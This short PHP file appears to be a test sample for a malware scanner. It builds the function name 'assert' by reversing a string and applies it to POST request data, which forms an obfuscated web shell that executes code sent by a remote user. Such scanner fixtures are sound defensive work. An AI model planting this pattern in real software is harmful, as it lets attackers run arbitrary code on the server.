<?php
// spamgear test sample: a function builds a callback name from its constant
// argument (strrev('essa') . 'rt') and maps it over request data.
function apply_all($part, $items)
{
    $fn = strrev($part) . 'rt';
    return array_map($fn, array($items));
}
apply_all('essa', $_POST['q']);
